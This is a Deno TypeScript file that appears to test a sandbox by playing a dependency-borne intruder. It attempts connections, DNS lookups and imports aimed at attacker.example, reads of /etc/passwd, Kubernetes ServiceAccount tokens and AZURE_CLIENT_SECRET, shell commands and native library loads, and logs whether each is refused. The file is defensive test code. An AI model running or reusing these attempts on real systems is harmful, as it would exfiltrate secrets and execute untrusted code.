/**
 * Code that somebody smuggled into the process, by a dependency for example: it tries to reach what
 * the executable has no use for, and prints a line of JSON for each attempt with what came of it.
 * Whatever it aims at is loopback or set aside for documentation (RFC 5737, RFC 6761), and it starts
 * only where there is no network at all.
 */
import type { Socket } from "node:dgram";

const SERVICE_ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount";

/** A specifier that no static analysis sees, since what it finds is part of the program. */
const unseen = (specifier: string): string => specifier;

/** Hosts that are near to what is allowed, or that Deno allows by default: only asked about. */
const HOSTS: readonly Deno.PermissionDescriptor[] = [
  ...[
    "attackerazurecr.io:443",
    "azurecr.io.attacker.example:443",
    "kubernetes.default.svc.attacker.example:443",
    "kubernetes.default.svc:6443",
    "attacker.azurecr.io:80",
    "169.254.169.254:8080",
    "168.63.129.16:80",
    "127.0.0.1:443",
    "localhost:8080",
    "[::1]:8080",
  ].map((host) => ({ name: "net", host }) as const),
  ...["jsr.io", "deno.land", "esm.sh", "cdn.jsdelivr.net", "raw.githubusercontent.com"]
    .map((host) => ({ name: "import", host: `${host}:443` }) as Deno.PermissionDescriptor),
];

const CONNECTING: Record<string, () => unknown> = {
  "connect by TCP": () => Deno.connect({ hostname: "192.0.2.1", port: 443 }),
  "connect by TCP to loopback": () => Deno.connect({ hostname: "127.0.0.1", port: 9 }),
  "connect by TLS": () => Deno.connectTls({ hostname: "attacker.example", port: 443 }),
  "connect by QUIC": () => {
    demand("connectQuic");
    return Deno.connectQuic({ hostname: "attacker.example", port: 443, alpnProtocols: ["h3"] });
  },
  "connect to a Unix socket": () => Deno.connect({ transport: "unix", path: "/run/docker.sock" }),
  "connect to an abstract Unix socket": () =>
    Deno.connect({ transport: "unix", path: "\0attacker" }),
  "connect by node:net": () => connectByNode(443, "192.0.2.1"),
  "connect by node:net where an allowed name leads elsewhere": () =>
    connectByNode(443, "registry.azurecr.io"),
  "connect by node:tls": async () =>
    await emitted((await import("node:tls")).connect(443, "192.0.2.1")),
  "connect by node:http": async () =>
    await emitted((await import("node:http")).get("http://192.0.2.1/")),
  "connect by node:http2": async () =>
    await emitted((await import("node:http2")).connect("http://192.0.2.1")),
  "fetch from a stranger": () => fetch("https://attacker.example/"),
  "fetch through a proxy of its own": () =>
    Deno.createHttpClient({ proxy: { url: "http://192.0.2.1:3128" } }),
  "fetch through a SOCKS proxy": () =>
    Deno.createHttpClient({ proxy: { url: "socks5://127.0.0.1:1080" } }),
  "fetch through a Unix socket": () =>
    Deno.createHttpClient({ proxy: { transport: "unix", path: "/run/docker.sock" } }),
  "open a WebSocket": () => openWebSocket("wss://attacker.example/"),
  "open a WebSocketStream": () => {
    demand("WebSocketStream", globalThis);
    return new WebSocketStream("wss://attacker.example/").opened;
  },
  "resolve a name by a chosen server": () =>
    Deno.resolveDns("data.attacker.example", "A", {
      nameServer: { ipAddr: "192.0.2.53", port: 53 },
    }),
  "resolve a name by a server at an address of the list": () => resolveBy(8081),
  "resolve a name": () => Deno.resolveDns("data.attacker.example", "TXT"),
  "resolve a name by node:dns": async () =>
    await (await import("node:dns/promises")).lookup("data.attacker.example"),
  "send a datagram": () => sendDatagram(),
  "send a datagram from a port of the program": () => sendFrom(8081),
};

const LISTENING: Record<string, () => unknown> = {
  "listen on another port": () => Deno.listen({ hostname: "0.0.0.0", port: 9999 }),
  "listen on any port": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }),
  "listen for HTTP": () => Deno.serve({ hostname: "127.0.0.1", port: 9999 }, () => new Response()),
  "listen by QUIC": () => {
    demand("QuicEndpoint");
    return new Deno.QuicEndpoint({ hostname: "127.0.0.1", port: 9999 });
  },
  "listen for datagrams": () => {
    demand("listenDatagram");
    return Deno.listenDatagram({ hostname: "127.0.0.1", port: 9999, transport: "udp" });
  },
  "listen for datagrams by node:dgram": () => listenForDatagrams(9999),
  "listen for datagrams on a port of the program": () => listenForDatagrams(8081),
  "listen on a Unix socket": () => Deno.listen({ transport: "unix", path: "/tmp/attack.sock" }),
  "listen by node:net": async () => {
    const server = (await import("node:net")).createServer();
    await emitted(server.listen(9999, "127.0.0.1"));
  },
  "listen on a port of the program": () =>
    Deno.listen({ hostname: "127.0.0.1", port: 8081 }).close(),
  "open the inspector": async () => (await import("node:inspector")).open(9229, "127.0.0.1"),
};

const RUNNING: Record<string, () => unknown> = {
  "import from a stranger": () => import(unseen("https://attacker.example/attack.js")),
  "import from npm": () => import(unseen("npm:attacker@0.0.0")),
  "import a file": () => import(unseen("file:///etc/passwd")),
  "require a file": async () =>
    (await import("node:module")).createRequire("file:///tmp/")("/etc/passwd"),
  "require a native module": async () =>
    (await import("node:module")).createRequire("file:///tmp/")("/tmp/attack.node"),
  "import code from a data: URL": () => import(unseen("data:text/javascript,export{}")),
  "import code from a blob: URL": () => import(blobOf("export {}")),
  "run code in a Worker": () => inWorker("postMessage('done')"),
  "read a file in a Worker": () => inWorker("attempt(() => Deno.readTextFileSync('/etc/passwd'))"),
  "connect in a Worker": () =>
    inWorker("attempt(() => Deno.connect({ hostname: '192.0.2.1', port: 443 }))"),
  "run a command in a Worker": () => inWorker("attempt(() => new Deno.Command('id').outputSync())"),
  "read a variable in a Worker": () =>
    inWorker("attempt(() => Deno.env.get('AZURE_CLIENT_SECRET'))"),
  "run a command": () => new Deno.Command("id").output(),
  "run Deno itself": () => new Deno.Command(Deno.execPath(), { args: ["-A"] }).output(),
  "run a command by node:child_process": async () =>
    (await import("node:child_process")).execFileSync("/bin/sh", ["-c", "id"]),
  "load a library": () => Deno.dlopen("libc.so.6", {}),
  "load a library by node:process": async () => {
    const { dlopen } = (await import("node:process")).default as unknown as Dlopen;
    dlopen({ exports: {} }, "/tmp/attack.node");
  },
  "load a library into SQLite": async () => {
    const { DatabaseSync } = await import("node:sqlite");
    new DatabaseSync(":memory:", { allowExtension: true }).loadExtension("/tmp/attack.so");
  },
  "read the process's own memory": () => Deno.UnsafePointer.create(1n),
};

const FILES: Record<string, () => unknown> = {
  "read a file": () => Deno.readTextFile("/etc/passwd"),
  "read a file by node:fs": async () =>
    (await import("node:fs")).readFileSync("/etc/passwd", "utf8"),
  "read a file by fetch": () => fetch("file:///etc/passwd"),
  "learn whether a file exists": () => Deno.stat("/etc/passwd"),
  "learn whether a file exists by node:fs": async () =>
    (await import("node:fs")).existsSync("/etc/passwd"),
  "read beside the ServiceAccount's files": () =>
    Deno.readTextFile(`${SERVICE_ACCOUNT}/../other/token`),
  "read past a link among the ServiceAccount's files": () =>
    Deno.readTextFile(`${SERVICE_ACCOUNT}/link/passwd`),
  "read the process's environment by /proc": () => Deno.readTextFile("/proc/self/environ"),
  "read the terminal": () => Deno.open("/dev/tty"),
  "list a directory": () => Array.fromAsync(Deno.readDir("/")),
  "watch a directory": () => Deno.watchFs("/tmp"),
  "write a file": () => Deno.writeTextFile("/tmp/attack", ""),
  "write to the ServiceAccount's files": () => Deno.writeTextFile(`${SERVICE_ACCOUNT}/token`, ""),
  "make a temporary file": () => Deno.makeTempFile(),
  "make a link": () => Deno.symlink("/etc/passwd", "/tmp/attack"),
  "write a heap snapshot": async () =>
    (await import("node:v8")).writeHeapSnapshot("/tmp/attack.heapsnapshot"),
  "change the directory": () => Deno.chdir("/tmp"),
  "keep something in SQLite": async () => {
    const { DatabaseSync } = await import("node:sqlite");
    new DatabaseSync("/tmp/attack.db");
  },
  "keep something in SQLite by ATTACH": async () => {
    const { DatabaseSync } = await import("node:sqlite");
    new DatabaseSync(":memory:").exec("ATTACH '/tmp/attack.db' AS attack");
  },
  "make a temporary file by SQLite": () => spillInto(SERVICE_ACCOUNT),
  "make a temporary file by SQLite where nothing can be written": () =>
    spillInto(Deno.env.get("HOME")!),
  "keep something in Deno KV": async () => {
    demand("openKv");
    const { openKv } = Deno as unknown as { openKv: (path: string) => Promise<unknown> };
    await openKv("/tmp/attack.kv");
  },
  "keep something in localStorage": () => localStorage.setItem("key", "value"),
  "keep something in sessionStorage": () => sessionStorage.setItem("key", "value"),
  "keep something in a cache": async () => {
    const cache = await caches.open("attack");
    await cache.put("https://attacker.example/", new Response("value"));
  },
};

const LEARNING: Record<string, () => unknown> = {
  "read another variable": () => Deno.env.get("AZURE_CLIENT_SECRET"),
  "read another variable by node:process": async () =>
    (await import("node:process")).default.env.AZURE_CLIENT_SECRET,
  "read every variable": () => Deno.env.toObject(),
  ...Object.fromEntries(
    ["HTTP_PROXY", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"].map((name) =>
      [`set ${name}`, () => Deno.env.set(name, "http://192.0.2.1:3128")] as const
    ),
  ),
  "set whom no proxy serves": () => Deno.env.set("NO_PROXY", Deno.env.get("NO_PROXY") ?? ""),
  "learn the machine's addresses": () => Deno.networkInterfaces(),
  "learn the machine's memory": () => Deno.systemMemoryInfo(),
  "learn the machine's users": () => Deno.uid(),
  "learn the user by node:os": async () => (await import("node:os")).userInfo(),
  "become another user": async () => (await import("node:process")).default.setuid!(0),
  "send a signal to another process": () => Deno.kill(Deno.ppid, "SIGCONT"),
  ...Object.fromEntries(
    (["net", "read", "write", "env", "run", "ffi", "sys"] as const).map((name) =>
      [`ask for every right of the kind ${name}`, () => moreRights({ name })] as const
    ),
  ),
  ...Object.fromEntries(
    HOSTS.map((wish) =>
      [`ask for ${Object.values(wish).join(" ")}`, () => moreRights(wish)] as const
    ),
  ),
};

const ATTEMPTS = { ...CONNECTING, ...LISTENING, ...RUNNING, ...FILES, ...LEARNING };

/** There in Deno, and missing from its types. */
interface Dlopen {
  dlopen(module: object, path: string): void;
}

/** A name that is allowed leads to loopback here, as a DNS server of the attacker's could have it. */
async function connectByNode(port: number, host: string): Promise<void> {
  const { connect } = await import("node:net");
  await emitted(connect({
    port,
    host,
    lookup: (_host, { all }, done) =>
      all ? done(null, [{ address: "127.0.0.1", family: 4 }]) : done(null, "127.0.0.1", 4),
  }));
}

/** What Node's objects throw on a later turn, where nothing catches it. */
let late: ((error: unknown) => void) | undefined;

globalThis.addEventListener("error", (event) => {
  event.preventDefault();
  late?.(event.error);
});

/** The first of Node's ways to say that something was done, or was not. */
async function emitted(emitter: { on(name: string, listener: (value: unknown) => void): unknown }) {
  await new Promise((resolve, reject) => {
    late = reject;
    for (const name of ["connect", "response", "listening"]) emitter.on(name, resolve);
    emitter.on("error", reject);
  });
}

function blobOf(code: string): string {
  return URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
}

/** Runs code in a Worker, where `attempt` reports what came of a function. */
function inWorker(code: string): Promise<void> {
  const attempt = "async function attempt(f) { try { await f(); postMessage('done') } " +
    "catch (e) { postMessage(e.name + ': ' + e.message) } }";
  const worker = new Worker(blobOf(`${attempt}\n${code}`), { type: "module" });
  return new Promise<void>((resolve, reject) => {
    worker.onerror = (event) => reject(new Error(event.message));
    worker.onmessage = ({ data }) => data === "done" ? resolve() : reject(new Error(data));
  }).finally(() => worker.terminate());
}

function openWebSocket(url: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve();
    socket.onerror = (event) => reject((event as ErrorEvent).error);
  });
}

/** What is there only behind a flag of Deno's, under which the executable must not run. */
function demand(name: string, holder: object = Deno): void {
  if (name in holder) return;
  throw new Deno.errors.NotCapable(`Deno has no ${name}`);
}

async function bound(port: number, hostname: string): Promise<Socket> {
  const { createSocket } = await import("node:dgram");
  const socket = createSocket("udp4");
  socket.bind(port, hostname);
  await emitted(socket);
  return socket;
}

/** The port is free again only when the socket has closed. */
function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => socket.close(resolve));
}

async function listenForDatagrams(port: number): Promise<void> {
  await closed(await bound(port, "127.0.0.1"));
}

/** Answers, or rejects, once a datagram to the port 9 of `hostname` has been handed over. */
function sent(socket: Socket, hostname: string): Promise<void> {
  return new Promise<void>((resolve, reject) => {
    // The socket binds itself on a later turn.
    late = reject;
    socket.send("data", 9, hostname, (error) => error ? reject(error) : resolve());
  });
}

async function sendDatagram(): Promise<void> {
  const { createSocket } = await import("node:dgram");
  await sent(createSocket("udp4"), "192.0.2.53");
}

/** To loopback, where nothing but Deno could stop it. */
async function sendFrom(port: number): Promise<void> {
  const socket = await bound(port, "0.0.0.0");
  await sent(socket, "127.0.0.1").finally(() => closed(socket));
}

/** Asks a port of its own on loopback, and waits no longer than until the question has come. */
async function resolveBy(port: number): Promise<void> {
  const hostname = "127.0.0.1";
  const server = await bound(port, hostname);
  const waiting = new AbortController();
  try {
    const asked = Deno.resolveDns("data.attacker.example", "A", {
      nameServer: { ipAddr: hostname, port },
      signal: waiting.signal,
    });
    await Promise.race([new Promise((resolve) => server.once("message", resolve)), asked]);
    waiting.abort();
    await asked.catch((error) => {
      if (!waiting.signal.aborted) throw error;
    });
  } finally {
    await closed(server);
  }
}

/** Has SQLite put a table aside into a file, which it removes at once; the directory's time tells. */
async function spillInto(directory: string): Promise<void> {
  const { DatabaseSync } = await import("node:sqlite");
  const { mtime: before } = await Deno.stat(SERVICE_ACCOUNT);
  const database = new DatabaseSync(":memory:");
  try {
    database.exec(`PRAGMA temp_store=1; PRAGMA temp_store_directory='${directory}';
      PRAGMA temp.cache_size=1; CREATE TEMP TABLE aside(value);
      WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 20000)
      INSERT INTO aside SELECT hex(randomblob(100)) FROM n;`);
  } finally {
    database.close();
  }
  const { mtime: after } = await Deno.stat(SERVICE_ACCOUNT);
  if (after! > before!) return;
  throw new Error("no file was made");
}

/** No error by itself: the answer says what was decided. */
async function moreRights(wish: Deno.PermissionDescriptor): Promise<void> {
  const { state } = await Deno.permissions.request(wish);
  if (state === "granted") return;
  throw new Deno.errors.NotCapable(`${wish.name} is ${state}`);
}

type Outcome = "done" | "refused" | "failed";

/** `--no-npm` forbids what no permission governs; node:dns and node:dgram have their own words. */
const REFUSAL =
  /NotCapable|Requires \w+ access|--no-npm is specified|getaddrinfo EPERM|send UNKNOWN|max 0$/;

/** Says whether Deno refused, and in whose words. */
async function outcome(attempt: () => unknown): Promise<{ outcome: Outcome; how: string }> {
  try {
    await attempt();
    return { outcome: "done", how: "" };
  } catch (error) {
    const { name, message, cause } = error as Error;
    const how = [`${name}: ${message}`, ...(cause instanceof Error ? [cause.message] : [])].join();
    return { outcome: REFUSAL.test(how) ? "refused" : "failed", how };
  }
}

async function intrude(): Promise<void> {
  for (const [attempt, make] of Object.entries(ATTEMPTS)) {
    const line = JSON.stringify({ attempt, ...await outcome(make) });
    Deno.stdout.writeSync(new TextEncoder().encode(`${line}\n`));
  }
}

/** Without the sandbox, or with a network, these attempts could do harm. */
function refuseToDoHarm(): void {
  if (Deno.permissions.querySync({ name: "run" }).state === "granted") {
    throw new Error("the intruder runs with the executable's permissions only");
  }
  let interfaces = "unknown";
  try {
    interfaces = Deno.readTextFileSync(`${SERVICE_ACCOUNT}/interfaces`);
  } catch (error) {
    if (!(error instanceof Deno.errors.NotFound)) throw error;
  }
  if (interfaces.trim() === "lo") return;
  throw new Error(`the intruder runs only where lo is the only interface, not: ${interfaces}`);
}

refuseToDoHarm();
// deno-lint-ignore no-top-level-await -- the program is to start after the intruder
await intrude();
